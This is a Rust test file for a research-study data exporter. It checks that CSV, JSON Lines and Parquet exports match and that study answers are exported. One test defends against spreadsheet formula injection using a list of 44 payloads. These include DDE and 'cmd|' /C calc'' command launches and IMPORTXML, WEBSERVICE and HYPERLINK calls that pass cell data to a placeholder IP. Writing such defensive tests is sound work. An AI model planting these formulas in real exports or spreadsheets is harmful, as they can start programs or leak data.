//! Exports: every format says the same, to the last bit, and what people type stays text.

mod common;

use common::{DEVICE, Simulant, service, walk};
use equipoise_log::MemoryStore;
use equipoise_study::event::{Event, ItemAnswer};
use equipoise_study::export::{Cell, Column, Kind, Table, answers, psych_ds, questionnaire};
use equipoise_study::study::Position;
use equipoise_study::{Step, Study, template};
use parquet::file::reader::{FileReader as _, SerializedFileReader};
use parquet::record::{Field, Row};
use rand::{RngExt as _, SeedableRng as _};
use rand_xoshiro::Xoshiro256PlusPlus;
use serde_json::Value;

/// The columns of a table, whatever is in it.
fn empty(of: fn(&dyn equipoise_log::Reader) -> equipoise_study::Result<Table>) -> Table {
    of(&MemoryStore::new()).unwrap()
}

fn text(random: &mut Xoshiro256PlusPlus) -> String {
    let letters =
        ['a', 'Z', '=', '+', '-', '@', '\'', '"', ',', ';', '\n', '\r', '\t', ' ', 'é', '\u{1f600}', '0'];
    (0..random.random_range(0..12)).map(|_| letters[random.random_range(0..letters.len())]).collect()
}

fn random_rows(table: &Table, count: usize, seed: u64) -> Table {
    let mut random = Xoshiro256PlusPlus::seed_from_u64(seed);
    let mut cell = |kind: Kind| match kind {
        Kind::Counts => {
            Cell::Counts((0..random.random_range(0..9)).map(|_| random.random_range(0..1_000_000)).collect())
        }
        _ if random.random_range(0..5) == 0 => Cell::Nothing,
        Kind::Whole => Cell::Whole(random.random_range(0..1 << 53)),
        Kind::Real => Cell::Real(random.random_range(-1e9..1e9) * 10_f64.powi(random.random_range(-20..20))),
        Kind::Time => Cell::Time(random.random_range(-10_000_000_000..2_000_000_000_000)),
        Kind::Text => Cell::Text(text(&mut random)),
    };
    let rows = (0..count).map(|_| table.columns.iter().map(|column| cell(column.kind)).collect()).collect();
    Table { rows, ..table.clone() }
}

/// What a reader of comma-separated values gets that knows the columns.
fn from_csv(table: &Table) -> Table {
    let text = table.csv();
    let mut records = records(&text);
    let header: Vec<String> = records.next().unwrap().into_iter().map(|(cell, _)| cell).collect();
    assert_eq!(header, table.columns.iter().map(|column| column.name).collect::<Vec<_>>());
    let rows = records.map(|record| {
        assert_eq!(record.len(), table.columns.len(), "{record:?}");
        let cells = record.iter().zip(table.columns);
        cells.map(|((cell, quoted), column)| value(cell, *quoted, column.kind).unwrap()).collect()
    });
    Table { rows: rows.collect(), ..table.clone() }
}

fn value(cell: &str, quoted: bool, kind: Kind) -> Option<Cell> {
    if cell.is_empty() && !quoted {
        return Some(if kind == Kind::Counts { Cell::Counts(vec![]) } else { Cell::Nothing });
    }
    match kind {
        Kind::Whole => cell.parse().ok().map(Cell::Whole),
        Kind::Real => cell.parse().ok().map(Cell::Real),
        Kind::Time => cell.parse().ok().map(Cell::Time),
        Kind::Text => Some(Cell::Text(cell.strip_prefix('\'').unwrap_or(cell).to_owned())),
        Kind::Counts => {
            cell.split(' ').map(|n| n.parse().ok()).collect::<Option<Vec<u64>>>().map(Cell::Counts)
        }
    }
}

/// Records of cells, and whether each was in quotes.
fn records(text: &str) -> impl Iterator<Item = Vec<(String, bool)>> {
    let mut letters = text.chars().peekable();
    std::iter::from_fn(move || {
        letters.peek()?;
        let mut record = vec![];
        let (mut cell, mut quoted, mut inside) = (String::new(), false, false);
        while let Some(letter) = letters.next() {
            match letter {
                '"' if inside && letters.next_if_eq(&'"').is_some() => cell.push('"'),
                '"' => (quoted, inside) = (true, !inside),
                ',' if !inside => record.push((std::mem::take(&mut cell), std::mem::take(&mut quoted))),
                '\n' if !inside => break,
                letter => cell.push(letter),
            }
        }
        record.push((cell, quoted));
        Some(record)
    })
}

fn from_json(table: &Table) -> Table {
    let text = table.json_lines();
    let rows = text.lines().map(|line| {
        let object: Value = serde_json::from_str(line).unwrap();
        let cell = |column: &Column| match (&object[column.name], column.kind) {
            (Value::Null, _) => Cell::Nothing,
            (value, Kind::Whole) => Cell::Whole(value.as_u64().unwrap()),
            (value, Kind::Real) => Cell::Real(value.as_f64().unwrap()),
            (value, Kind::Time) => Cell::Time(value.as_i64().unwrap()),
            (value, Kind::Text) => Cell::Text(value.as_str().unwrap().to_owned()),
            (value, Kind::Counts) => {
                Cell::Counts(value.as_array().unwrap().iter().map(|n| n.as_u64().unwrap()).collect())
            }
        };
        table.columns.iter().map(cell).collect()
    });
    Table { rows: rows.collect(), ..table.clone() }
}

fn from_parquet(table: &Table) -> Table {
    let bytes = bytes::Bytes::from(table.parquet().unwrap());
    let reader = SerializedFileReader::new(bytes).unwrap();
    let row = |row: Row| -> Vec<Cell> {
        let cell = |field: &Field| match field {
            Field::Null => Cell::Nothing,
            Field::Long(number) => Cell::Whole(*number as u64),
            Field::Double(number) => Cell::Real(*number),
            Field::TimestampMillis(time) => Cell::Time(*time),
            Field::Str(text) => Cell::Text(text.clone()),
            Field::ListInternal(list) => Cell::Counts(
                list.elements()
                    .iter()
                    .map(|field| match field {
                        Field::Long(number) => *number as u64,
                        other => panic!("{other:?} in a list"),
                    })
                    .collect(),
            ),
            other => panic!("{other:?}"),
        };
        row.get_column_iter().map(|(_, field)| cell(field)).collect()
    };
    let rows = reader.get_row_iter(None).unwrap().map(|read| row(read.unwrap())).collect();
    Table { rows, ..table.clone() }
}

#[test]
fn a_hundred_thousand_rows_are_the_same_in_every_format() {
    for (table, count) in [(empty(answers), 100_000), (empty(questionnaire), 20_000)] {
        let table = random_rows(&table, count, 3);
        for (format, read) in
            [("CSV", from_csv(&table)), ("JSON Lines", from_json(&table)), ("Parquet", from_parquet(&table))]
        {
            assert_eq!(read.rows.len(), count, "{format}");
            for (n, (read, written)) in read.rows.iter().zip(&table.rows).enumerate() {
                assert_eq!(read, written, "row {n} of {} in {format}", table.name);
            }
        }
        println!("{count} rows of {}: CSV, JSON Lines and Parquet agree", table.name);
    }
}

/// What has been used to make spreadsheets compute, fetch or start something, and neighbours of it.
const PAYLOADS: [&str; 44] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"open\")",
    "=IMPORTXML(\"http://192.0.2.1\",\"//a\")",
    "=IMPORTFEED(\"http://192.0.2.1\")",
    "=IMPORTHTML(\"http://192.0.2.1\",\"table\",1)",
    "=IMPORTRANGE(\"x\",\"A1\")",
    "=IMPORTDATA(\"http://192.0.2.1\")",
    "=IMAGE(\"http://192.0.2.1/x.png\")",
    "=WEBSERVICE(\"http://192.0.2.1\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\x.exe'!''",
    "=rundll32|'URL.dll,OpenURL x'!A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "  +1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{ff0d}1",
    "\u{ff20}SUM(1)",
    "'=1+1",
    "''=1",
    "\"=1+1",
    "\";=1+1;\"",
    "x\",=1+1,\"",
    "x\n=1+1",
    "x\r=1+1",
    "=1+1\";calc|A!Z;\"",
    "-2+3+cmd|' /C calc'!D2",
    "+-=@x",
    "=",
    "=SUM(1;2),=3",
    "@x,\"y\"\n=z",
];

#[test]
fn no_payload_begins_a_cell_and_every_text_comes_back() {
    const ONE: [Column; 1] = [Column { name: "text", kind: Kind::Text, description: "" }];
    // Signs that begin a formula, also in the wide forms of East Asian keyboards.
    let begins = |c: char| "=+-@\t\r\n\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(c);
    for payload in PAYLOADS {
        let table = Table { name: "x", columns: &ONE, rows: vec![vec![Cell::Text(payload.to_owned())]] };
        assert_eq!(from_csv(&table), table, "{payload:?}");
        // A reader sees one cell, and what it sees does not begin like a formula.
        let text = table.csv();
        let cells = records(&text).nth(1).unwrap();
        assert_eq!(cells.len(), 1, "{payload:?} became {text:?}");
        let seen = cells[0].0.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
        assert!(!seen.starts_with(begins), "{payload:?} became {text:?}");
    }
    println!("{} payloads", PAYLOADS.len());
}

#[test]
fn a_study_has_its_answers_and_its_questionnaire_in_the_export() {
    let service = service("binary-cancer", 21);
    let formula = "=HYPERLINK(\"http://192.0.2.1\")";
    for (n, invitation) in service.invite(2).unwrap().into_iter().enumerate() {
        let mut simulant = Simulant::new(5.0, 20.0, n as u64);
        // Comparisons, one of them taken back, then the questions after the task.
        walk(&service, &invitation.session, &mut simulant, 3);
        let asked = service.look(&invitation.session, |p| p.last_answered().unwrap().seq).unwrap();
        service.record(&invitation.session, DEVICE, "undo", &Event::Retracted { asked }).unwrap();
        loop {
            let step = service.look(&invitation.session, |p| p.step()).unwrap();
            if step == Step::Questionnaire(Position::Task) {
                break;
            }
            let event = service.look(&invitation.session, |p| simulant.next(p)).unwrap().unwrap();
            service
                .record(&invitation.session, DEVICE, &format!("k{}", simulant.random.random::<u64>()), &event)
                .unwrap();
        }
        let told = [("difficult".to_owned(), ItemAnswer::Text(formula.to_owned()))].into();
        let event = Event::QuestionnaireAnswered { position: Position::Task, answers: told };
        service.record(&invitation.session, DEVICE, "task", &event).unwrap();
    }
    let [answered, said] = service
        .writer()
        .with(|store| Ok::<_, equipoise_study::Error>([answers(store)?, questionnaire(store)?]))
        .unwrap();
    let place =
        |table: &Table, name: &str| table.columns.iter().position(|column| column.name == name).unwrap();
    let retracted = place(&answered, "retracted_by");
    assert_eq!(answered.rows.iter().filter(|row| row[retracted] != Cell::Nothing).count(), 2);
    let (item, answer) = (place(&said, "item"), place(&said, "answer"));
    let of = |name: &str| said.rows.iter().filter(|row| row[item] == Cell::Text(name.to_owned())).count();
    assert_eq!((of("stated_cost"), of("difficult")), (4, 2));
    assert!(said.rows.iter().any(|row| row[answer] == Cell::Text(formula.to_owned())));
    assert!(said.csv().contains(",\"'=HYPERLINK(\"\"http://192.0.2.1\"\")\","));
    assert!(said.json_lines().contains("\"answer\":\"=HYPERLINK("), "JSON has the text as it was sent");
    // The same log gives the same bytes (RS-16).
    let again = service.writer().with(|store| answers(store)).unwrap();
    assert_eq!((again.csv(), again.parquet().unwrap()), (answered.csv(), answered.parquet().unwrap()));
    // Every column of every table of a data set is described, and names are as the standard wants them.
    let study = Study::parse(template::find("binary-cancer").unwrap().text).unwrap();
    let files = psych_ds(&study, &[answered.clone(), said.clone()], "9-0123456789abcdef");
    let description: Value = serde_json::from_str(&files[0].1).unwrap();
    assert_eq!(files[0].0, "dataset_description.json");
    assert_eq!(
        (&description["@context"], &description["@type"]),
        (&"https://schema.org".into(), &"Dataset".into())
    );
    assert!(description["name"].is_string() && description["description"].is_string());
    let described: Vec<&str> = description["variableMeasured"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["name"].as_str().unwrap())
        .collect();
    for table in [&answered, &said] {
        assert!(table.columns.iter().all(|column| described.contains(&column.name)));
        let path = format!("data/study-cancer_version-1_table-{}_data.csv", table.name);
        let (_, text) = files.iter().find(|(name, _)| *name == path).expect("a table of the data set");
        assert_eq!(*text, table.csv());
    }
    assert_eq!(described.len(), described.iter().collect::<std::collections::BTreeSet<_>>().len());
}
